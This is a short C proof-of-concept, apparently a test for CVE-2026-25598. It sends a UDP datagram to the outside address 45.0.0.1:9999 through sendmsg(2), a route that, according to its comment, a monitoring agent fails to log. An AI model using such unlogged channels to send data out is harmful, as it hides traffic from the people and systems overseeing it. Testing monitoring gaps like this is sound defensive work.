/* The same by sendmsg(2), which an agent did not log (CVE-2026-25598). */
#include "attack.h"
int main(int c, char **v) {
    struct sockaddr_in to = v4("45.0.0.1", 9999);
    struct iovec data = {"data", 4};
    struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendmsg(fd, &message, 0) < 0) { failed("sendmsg"); finish(0); }
    finish(gets_prize(fd));
}
